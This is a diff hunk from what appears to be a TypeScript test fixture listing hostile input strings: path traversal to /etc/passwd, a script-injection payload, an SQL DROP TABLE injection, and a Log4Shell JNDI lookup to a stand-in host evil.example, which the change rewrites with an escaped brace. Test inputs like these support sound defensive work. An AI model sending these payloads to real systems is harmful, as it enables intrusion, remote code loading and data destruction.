@@ -31,7 +31,7 @@ const made: readonly string[] = [
   '../../etc/passwd',
   '<sip:102@evil.example>;tag=1',
   '"><script>alert(1)</script>',
-  '${jndi:ldap://evil.example/a}',
+  '$\u007bjndi:ldap://evil.example/a}',
   "'; DROP TABLE users; --",
   '',
   ' ',
